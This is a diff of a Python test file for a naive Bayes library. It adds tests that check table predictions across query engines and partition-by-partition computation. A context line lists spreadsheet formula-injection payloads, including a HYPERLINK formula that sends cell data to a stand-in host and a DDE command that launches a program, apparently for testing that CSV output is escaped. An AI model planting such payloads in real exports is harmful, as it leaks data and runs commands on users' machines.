@@ -24,6 +24,7 @@ from bayesnb.tables.files._predictions import table_file
 from bayesnb.tables.files.sources._csv import STARTS, as_read, as_written, line
 from bayesnb.tables.files.sources._paths import as_pandas, open_data
 from tests.reading import frame_of
+from tests.tables.files.engines.tables import ENGINES, QUIET, make_table, query
 
 FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
             "'=x", "''@x", "-inf", "=1\r\n=2"]  # fmt: skip
@@ -152,6 +153,52 @@ def test_without_a_file_a_frame_of_the_same_library_comes_back(tmp_path):
     check(found.to_pandas())
 
 
+@pytest.mark.filterwarnings("ignore::UserWarning")  # of columns that are left out
+@pytest.mark.parametrize("engine", ENGINES)
+def test_the_rows_of_a_query_are_read_in_every_engine(engine, tmp_path):
+    """Missing cells, unknown categories, dependence and words as in memory; an Arrow table comes back, or a file."""
+    table, new = make_table(400), make_table(300, seed=2)
+    new = new.set_column(new.column_names.index("id"), "id", [range(300)])
+    new = new.set_column(new.column_names.index("many"), "many", [["unknown", *new["many"].to_pylist()[1:]]])
+    clf = nb.fit_table(table, "label", {"id": "skip", "number": "skip", "text": "words"}, dependence="aode")
+    rows = query(engine, new.drop_columns(["label"]), tmp_path)
+    found = nb.predict_table(clf, rows, keep=["id", "text"])
+    assert isinstance(found, pa.Table)
+    found = found.sort_by("id")
+    wanted = new.drop_columns(["label"]).to_pandas()
+    assert_allclose(np.column_stack(found.columns[3:]), clf.predict_proba(wanted), rtol=0, atol=1e-9)
+    assert found["prediction"].to_pylist() == clf.predict(wanted).tolist()
+    assert found["text"].to_pylist() == new["text"].to_pylist()
+    assert nb.predict_table(clf, rows, keep="id", to=tmp_path / "out.parquet", where="here") == 300
+    written = pq.read_table(tmp_path / "out.parquet").sort_by("id")
+    assert written["prediction"].to_pylist() == found["prediction"].to_pylist()
+
+
+@QUIET
+def test_partitions_are_computed_one_after_the_other():
+    """While rows of one are predicted at most two more have been computed: memory does not grow with their number."""
+    dask, delayed = (
+        pytest.importorskip("dask.dataframe", reason="Dask is an extra"),
+        pytest.importorskip("dask").delayed,
+    )
+    seen: list[int] = []
+
+    def part(place):
+        seen.append(place)
+        return NEW[["id", *USED]]
+
+    rows = dask.from_delayed([delayed(part)(place) for place in range(20)], meta=NEW[["id", *USED]])
+
+    class Out(io.StringIO):
+        def write(self, text):
+            ahead.append(len(seen))
+            return super().write(text)
+
+    ahead: list[int] = []
+    assert nb.predict_table(CLF, rows, keep="id", to=Out()) == 20 * ROWS
+    assert ahead[1] <= 4 < ahead[-1] == 20
+
+
 @pytest.mark.filterwarnings("ignore:the rows have columns")
 def test_a_query_is_closed_where_a_cell_is_refused():
     duckdb = pytest.importorskip("duckdb", reason="DuckDB is an extra")
@@ -261,8 +308,8 @@ def test_only_columns_that_are_not_kept_are_reported():
         ({"source": "rows.csv", "to": "rows.csv"}, "'rows.csv' holds the rows, and would be overwritten"),
         ({"robustness": True, "costs": np.eye(3)}, "not of the decision of least cost: give one of the two"),
         (
-            {"robustness": True, "source": pl.from_pandas(NEW[USED]).lazy()},
-            "s_star has no expression in an engine: read the rows, nb.predict_table(clf, query, where='here')",
+            {"where": "engine", "source": pl.from_pandas(NEW[USED]).lazy()},
+            "where is 'here' or None, got 'engine': predictions are made here, of rows that are read block by block",
         ),
         ({"robustness": True, "to": "out.csv"}, "known for tables of categories, Bernoulli, Categorical and Histogram"),
         ({"robustness": True, "classifier": MLE, "to": "out.csv"}, "only an exact posterior says"),
